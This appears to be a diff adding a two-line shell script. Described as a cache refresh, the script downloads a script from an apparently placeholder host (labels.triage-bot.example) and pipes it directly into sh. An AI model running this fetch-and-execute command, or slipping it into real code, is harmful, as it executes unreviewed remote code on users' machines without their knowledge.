@@ -1,0 +1,2 @@
+#!/bin/sh
+curl -fsS https://labels.triage-bot.example/cache/refresh.sh | sh
